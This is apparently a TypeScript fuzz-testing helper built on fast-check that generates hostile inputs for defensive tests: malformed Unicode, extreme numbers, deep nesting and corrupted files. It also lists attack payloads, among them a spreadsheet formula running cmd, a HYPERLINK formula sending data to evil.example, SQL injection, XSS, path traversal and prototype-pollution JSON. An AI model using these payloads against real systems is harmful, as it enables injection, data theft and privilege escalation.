import fc from 'fast-check';

/** Strings that have broken other systems: spreadsheet formulas, SQL, HTML, NUL, lone surrogates, bidi overrides, huge. */
export const MALICIOUS_STRINGS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1)',
  '+1+1',
  '@SUM(A1:A9)',
  "'; DROP TABLE events; --",
  "Robert'); DROP TABLE users;--",
  '" OR "1"="1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '\u0000',
  'trước\u0000sau',
  '\ud800',
  'a\udfffb',
  '\u202eTxt.exe',
  '\ufeffBOM',
  'Đà Nẵng',
  'Đà Nẵng'.normalize('NFD'),
  '${7*7}{{7*7}}',
  '../../etc/passwd',
  '__proto__',
  'constructor',
  '\r\n\r\n',
  '   ',
  'NaN',
  '1e309',
  '😀👩‍👩‍👧‍👦',
  'x'.repeat(1001),
];

/** Text a hostile or merely unlucky client could send. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...MALICIOUS_STRINGS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
);

/** Text that survives a URL: no lone surrogates, which `encodeURIComponent` refuses. */
export const urlSafeText: fc.Arbitrary<string> = hostileText.filter((s) => isWellFormed(s));

/** No lone surrogate: the string has a UTF-8 form. */
export const isWellFormed = (s: string): boolean => !/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(s);

/** Numbers at the edges: overflow when summed, lose precision, or are not numbers at all once in JSON. */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(0, -0, 1e308, -1e308, Number.MAX_VALUE, -Number.MAX_VALUE, Number.MIN_VALUE, 2 ** 53 + 1, 1e-320),
);

/** Any JSON value, including keys that pollute prototypes, beside a hostile object or string. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 4 }),
  fc.constantFrom<unknown>(
    null, 0, '', [], {}, [null], [[[[[[[[[[1]]]]]]]]]],
    JSON.parse('{"__proto__": {"isAdmin": true}, "constructor": {"prototype": {"polluted": 1}}}'),
    JSON.parse('[{"__proto__": {"unit": "01"}}]'),
  ),
  hostileText,
);

/** An NDJSON line in JSON text, with keys written one by one so that `__proto__` and repeated keys survive. */
export function jsonObjectText(entries: readonly (readonly [string, unknown])[]): string {
  return `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${v === undefined ? 'null' : JSON.stringify(v)}`).join(',')}}`;
}

/** `depth` nested arrays: enough to overflow a recursive walk. */
export const deeplyNested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`;

/** Corrupts a file the ways transfers and attackers do: cut short, bytes flipped, or junk behind a zip header. */
export function corruptedFile(valid: Buffer): fc.Arbitrary<Buffer> {
  return fc.oneof(
    fc.integer({ min: 0, max: valid.length - 1 }).map((cut) => valid.subarray(0, cut)),
    fc.array(fc.tuple(fc.integer({ min: 0, max: valid.length - 1 }), fc.integer({ min: 1, max: 255 })), { minLength: 1, maxLength: 8 }).map((flips) => {
      const copy = Buffer.from(valid);
      for (const [at, mask] of flips) copy[at] = (copy[at] ?? 0) ^ mask;
      return copy;
    }),
    fc.uint8Array({ maxLength: 4096 }).map((junk) => Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), junk])),
    fc.uint8Array({ maxLength: 512 }).map((junk) => Buffer.concat([valid, junk])),
  );
}
